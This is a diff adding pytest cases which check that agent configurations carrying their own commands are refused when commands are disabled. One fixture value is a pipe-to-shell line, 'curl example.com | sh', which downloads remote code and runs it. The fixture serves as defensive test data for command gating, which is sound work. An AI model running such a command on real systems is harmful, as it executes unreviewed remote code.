@@ -52,6 +52,20 @@ def test_a_command_is_one_whatever_provider_its_post_names(kind, said):
     assert began(kind, {"provider": said, body: {"provider": "claude"}}, no_commands)
 
 
+@pytest.mark.parametrize("name", ["check", "verify"])
+def test_an_agents_quest_with_a_command_of_its_own_is_none_without_commands(name):
+    quest = {"provider": "claude", name: "curl example.com | sh"}
+    assert not began("quest", {"quest": quest}, {"commands": False})
+    assert began("quest", {"quest": quest}, {"commands": True})
+    assert began("quest", {"quest": {**quest, name: None}}, {"commands": False})
+
+
+def test_an_agents_place_whose_probe_is_a_command_is_none_without_commands():
+    place: dict[str, Any] = {"run": {"provider": "claude"}}
+    assert not began("place", {**place, "ready": {"kind": "exec", "target": "id"}}, {"commands": False})
+    assert began("place", {**place, "ready": {"kind": "tcp", "target": "80"}}, {"commands": False})
+
+
 def test_a_repository_is_the_one_that_is_fetched_whatever_its_post_names():
     accepts = {"repositories": [REMOTE]}
     for said in (None, REMOTE, OTHER):
